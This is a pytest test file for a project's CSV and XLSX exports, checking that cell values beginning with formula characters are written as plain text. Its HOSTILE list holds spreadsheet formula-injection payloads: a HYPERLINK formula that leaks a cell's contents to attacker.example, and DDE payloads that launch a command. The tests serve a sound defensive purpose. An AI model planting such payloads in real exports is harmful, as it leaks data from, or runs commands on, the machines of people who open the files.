"""Names a spreadsheet would evaluate are written as text in CSV and XLSX exports (issue 18: formula injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from portfolio.exports import write_export
from portfolio.exports.csv_writer import defuse_formula
from tests.exports import iter_chunks, make_meta, make_readings

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+1 head office",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _readings_named(name: str, meter: str = "=1+2"):
    frame = make_readings()
    frame.loc[frame["site_id"] == 1, "site_name"] = name
    frame.loc[frame["site_id"] == 1, "meter_identifier"] = meter
    return frame


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("shape", ["interval", "daily"])
def test_csv_cells_never_start_a_formula(name: str, shape: str) -> None:
    data = b"".join(write_export(shape, "csv", iter_chunks(_readings_named(name), 40), make_meta())).decode()
    rows = list(csv.DictReader(io.StringIO(data)))
    names = {row["site_name"] for row in rows}
    assert "'" + name in names and name not in names
    assert {row["meter_identifier"] for row in rows} >= {"'=1+2"}
    for row in rows:
        for key, value in row.items():
            if key != "energy_kwh":
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)


def test_negative_numbers_stay_numbers() -> None:
    frame = make_readings()
    frame.loc[0, "energy_kwh"] = -0.5  # export to the grid
    data = b"".join(write_export("interval", "csv", iter_chunks(frame, 40), make_meta())).decode()
    assert next(csv.DictReader(io.StringIO(data)))["energy_kwh"] == "-0.5"


@pytest.mark.parametrize("text", ["plain", "0123", "a=b", "1-2"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert defuse_formula(text) == text


@pytest.mark.parametrize("shape", ["interval", "daily"])
def test_xlsx_writes_names_as_text_never_formulas(shape: str) -> None:
    name = HOSTILE[0]
    data = b"".join(write_export(shape, "xlsx", iter_chunks(_readings_named(name), 40), make_meta(title="=1+1")))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    power = load_workbook(io.BytesIO(data))["power"]
    rows = list(power.iter_rows(min_row=3, values_only=True))
    assert {row[1] for row in rows} == {name} and {row[2] for row in rows} == {"=1+2"}
    assert power.cell(3, 2).data_type == "s"
    assert str(power.cell(1, 1).value).startswith("=1+1")  # the title is text too
